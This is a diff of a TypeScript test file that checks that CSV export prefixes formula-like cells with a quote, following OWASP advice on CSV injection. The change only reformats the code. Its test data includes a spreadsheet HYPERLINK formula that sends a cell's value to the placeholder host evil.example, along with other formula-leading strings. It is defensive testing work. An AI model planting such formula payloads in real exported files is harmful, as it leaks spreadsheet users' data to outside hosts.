@@ -9,9 +9,12 @@ import type { Prospect } from '../../src/prospects/schema.ts';
 const readBack = (line: string): string[] => parse(line, { relax_column_count: true })[0];
 
 describe('CSV cells are neutralised per OWASP', () => {
-  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1'])('%j gets a leading quote', (text) => {
-    expect(readBack(csvLine([text, 'x']))).toEqual([`'${text}`, 'x']);
-  });
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1'])(
+    '%j gets a leading quote',
+    (text) => {
+      expect(readBack(csvLine([text, 'x']))).toEqual([`'${text}`, 'x']);
+    },
+  );
 
   it('numbers stay numbers, negative ones included; ordinary text is unchanged', () => {
     expect(csvLine([-3, -0.5, 0, 'Acme', "O'Brien", 'a-b', null, ['=x', 'y']])).toBe(`-3,-0.5,0,Acme,O'Brien,a-b,,'=x;y\n`);
@@ -39,8 +42,19 @@ describe('CSV cells are neutralised per OWASP', () => {
       similarTo: [],
       dataCoverage: { share: 1, missing: [] },
       account: {
-        domain: 'evil.example', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', industry: '+industry', employees: 10, revenue: null,
-        country: 'US', region: '-region', city: '\tcity', foundedYear: 2001, businessModel: 'b2b', stage: null, technologies: ['=cmd'], keywords: [],
+        domain: 'evil.example',
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        industry: '+industry',
+        employees: 10,
+        revenue: null,
+        country: 'US',
+        region: '-region',
+        city: '\tcity',
+        foundedYear: 2001,
+        businessModel: 'b2b',
+        stage: null,
+        technologies: ['=cmd'],
+        keywords: [],
         description: null,
       },
     };
